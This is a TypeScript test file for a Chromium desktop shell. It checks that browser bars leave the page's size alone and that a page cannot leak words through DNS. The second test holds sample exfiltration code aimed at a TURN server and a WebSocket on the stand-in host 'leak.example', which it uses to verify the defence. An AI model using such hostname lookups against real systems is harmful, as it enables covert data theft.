/**
 * What the browser itself does around the page of the Chromium host: its info bars, and names it resolves for the page.
 */
import { chmodSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createChromiumShell, type ChromiumShell } from '../../main/shell/chromium/chromiumShell.ts';
import { findChromium } from '../../main/shell/chromium/launch.ts';
import { evaluateIn } from '../support/chromiumHost.ts';
import { bundlePreload } from '../support/preloadBundle.ts';
import { startXvfb, type Xvfb } from '../support/xvfb.ts';
import { temporaryFolder } from '../support/temporaryFolder.ts';

const folder = temporaryFolder('bars');
const netLog = join(folder, 'net.json');
let xvfb: Xvfb;
beforeAll(async () => {
  // The browser may run as another user than this test.
  chmodSync(folder, 0o777);
  xvfb = await startXvfb();
});
afterAll(async () => {
  await xvfb?.stop();
  rmSync(folder, { recursive: true, force: true });
});

async function withPage(
  executable: string,
  use: (evaluate: (expression: string) => Promise<unknown>) => Promise<void>,
): Promise<void> {
  const shell: ChromiumShell = await createChromiumShell({ display: xvfb.display, executable });
  try {
    shell.handleCalls(async () => ({ ok: true, value: null }));
    const page = {
      body: new TextEncoder().encode('<!doctype html><title>Desk</title>'),
      mediaType: 'text/html; charset=utf-8',
    };
    const window = await shell.open({
      title: 'Desk',
      width: 1000,
      height: 700,
      minWidth: 400,
      minHeight: 300,
      files: new Map([['/index.html', page]]),
      headers: {},
      preload: await bundlePreload(),
      contentProtection: false,
    });
    await use((expression) => evaluateIn(window, expression));
  } finally {
    await shell.quit();
  }
}

/**
 * Names of the events in the browser's own network log, one line each. Its end is missing where the browser was killed.
 */
function eventsOf(path: string): string[] {
  const log = readFileSync(path, 'utf8');
  const numbers = JSON.parse(/"logEventTypes":(\{[^}]*\})/.exec(log)?.[1] ?? '{}') as Record<string, number>;
  const names = new Map(Object.entries(numbers).map(([name, number]) => [String(number), name]));
  return [...log.matchAll(/^\{.*"type":(\d+)\}[\],}]*$/gm)].map(
    ([, number]) => names.get(number ?? '') ?? `unknown ${number}`,
  );
}

describe('around the page of the Chromium host', () => {
  test('no bar of the browser takes room from the page or addresses the agent', async () => {
    await withPage(findChromium() ?? '', async (evaluate) => {
      // A bar comes with the window or a moment later: sixty pictures are drawn meanwhile.
      await evaluate(
        'new Promise((resolve) => { let left = 60; const next = () => (left-- > 0 ? requestAnimationFrame(next) : ' +
          'resolve()); next() })',
      );
      expect(await evaluate('[innerWidth, innerHeight]')).toEqual([1000, 700]);
    });
  });

  test('a page cannot send words out as host names: not even the name of a TURN server is resolved', async () => {
    const watched = join(folder, 'watched');
    writeFileSync(watched, `#!/bin/sh\nexec ${findChromium() ?? ''} "$@" --log-net-log=${netLog}\n`, { mode: 0o755 });
    await withPage(watched, async (evaluate) => {
      const candidates = await evaluate(`(async () => {
        const peer = new RTCPeerConnection({ iceServers: ['udp', 'tcp'].map((way) => ({ urls: 'turn:four-one-one-one.leak.example:3478?transport=' + way, username: 'a', credential: 'b' })) });
        peer.createDataChannel('words');
        await peer.setLocalDescription(await peer.createOffer());
        const socket = new WebSocket('wss://four-one-one-one.leak.example/');
        await Promise.all([
          new Promise((resolve) => socket.addEventListener('close', resolve)),
          new Promise((resolve) => { const done = () => peer.iceGatheringState === 'complete' && resolve(); peer.addEventListener('icegatheringstatechange', done); done() }),
        ]);
        return peer.localDescription.sdp.match(/a=candidate/g);
      })()`);
      expect(candidates).toBe(null);
    });
    const events = eventsOf(netLog);
    // the log was written, and the browser was given an address
    expect(events).toContain('HOST_RESOLVER_MANAGER_REQUEST');
    expect(
      events.filter(
        (name) =>
          name.startsWith('DNS_TRANSACTION') || name.startsWith('HOST_RESOLVER_SYSTEM') || name === 'UDP_BYTES_SENT',
      ),
    ).toEqual([]);
  });
});
